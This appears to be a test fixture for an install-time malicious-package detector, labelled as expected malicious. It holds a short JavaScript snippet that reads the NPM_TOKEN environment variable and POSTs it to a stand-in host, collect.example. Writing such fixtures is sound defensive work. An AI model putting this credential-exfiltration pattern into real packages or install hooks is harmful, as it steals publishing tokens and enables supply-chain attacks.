// when: install
// expect: malicious
// source: review of the change of 2026-12-04 (a miss found while reading bindings): with `import { env } from
// 'node:process'`, a variable taken from it (`const t = env.NPM_TOKEN`) was bound as a member of a module and lost
import { env } from 'node:process';
const t = env.NPM_TOKEN;
fetch('https://collect.example/t', { method: 'POST', body: t });
